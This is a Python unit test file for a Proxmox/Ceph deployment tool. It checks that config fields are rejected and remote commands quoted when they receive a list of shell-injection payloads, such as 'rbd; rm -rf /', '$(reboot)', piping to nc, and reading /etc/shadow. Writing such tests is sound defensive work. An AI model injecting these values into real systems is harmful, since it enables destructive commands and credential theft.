"""Every string that reaches a shell is either refused by the config model or provably quoted."""

from __future__ import annotations

import shlex
from typing import Any

import pytest

from components import ceph_cli, ceph_common, ceph_health
from components import config as cfg
from components.ceph_cli import Caps
from components.ssh import render
from tests.unit.helpers import valid_raw
from tests.unit.test_config import _set

PAYLOADS = [
    "rbd; rm -rf /",
    "rbd && reboot",
    "rbd || true",
    "rbd | nc 10.0.0.1 1",
    "$(reboot)",
    "`reboot`",
    "rbd\nreboot",
    "rbd\rreboot",
    "rbd'; reboot; '",
    'rbd"; reboot; "',
    "rbd > /etc/passwd",
    "rbd < /etc/shadow",
    "rbd & reboot",
    "${IFS}reboot",
    "rbd #comment",
    "../../etc",
    "rbd\\reboot",
    "*",
    "rbd{a,b}",
    "~root",
    "rbd\x00reboot",
    "-rf",
    "--yes-i-really-really-mean-it",
    "rbd pool",
]

# Every config string that ends up in a shell command or an API path.
SHELL_FIELDS = [
    "ceph.pool.name",
    "ceph.client.name",
    "ceph.admin.host",
    "ceph.admin.user",
    "ceph.monitors[0]",
    "proxmox.sshUser",
    "proxmox.nodes[0].name",
    "proxmox.nodes[0].address",
    "storage.id",
    "vms[0].name",
    "vms[0].node",
    "vms[0].iso",
    "vms[0].bridge",
    "vms[0].cpuType",
    "ha.affinities[0].name",
]


def test_there_are_at_least_twenty_payloads() -> None:
    assert len(PAYLOADS) >= 20


@pytest.mark.parametrize("field", SHELL_FIELDS)
@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_payload_in_a_shell_field_is_rejected(field: str, payload: str) -> None:
    raw: dict[str, Any] = _set(valid_raw(), field, payload)
    with pytest.raises(cfg.ConfigError) as info:
        cfg.validate(raw)
    assert f"pve-ceph-ha:{field}" in str(info.value)


# NUL cannot travel in an SSH exec request at all (the config refuses it: the test above).
SHELL_PAYLOADS = [p for p in PAYLOADS if "\x00" not in p]


@pytest.mark.parametrize("payload", SHELL_PAYLOADS, ids=range(len(SHELL_PAYLOADS)))
def test_every_remote_command_quotes_what_it_is_given(payload: str) -> None:
    """Even a value the model would refuse comes back as one argv word after the remote shell splits it."""
    commands = [
        ceph_cli.pool_create(payload, 32),
        ceph_cli.pool_set(payload, "size", 3),
        ceph_cli.rbd_pool_init(payload),
        ceph_cli.rbd_ls(payload),
        ceph_cli.pool_delete(payload),
        ceph_cli.auth_get(payload),
        ceph_cli.auth_get_or_create(payload, Caps.for_profile("profile-rbd", payload)),
        ceph_cli.auth_caps(payload, Caps.for_profile("runbook", payload)),
        ceph_cli.auth_del(payload),
        ceph_cli.config_get(payload, payload),
        ceph_cli.config_set(payload, payload, payload),
        ceph_cli.config_rm(payload, payload),
        ceph_common.install_argv(payload),
        ceph_common.query_argv(payload),
        ceph_health.gate_argv(payload, 32, 3),
    ]
    for argv in commands:
        assert shlex.split(render(argv)) == argv
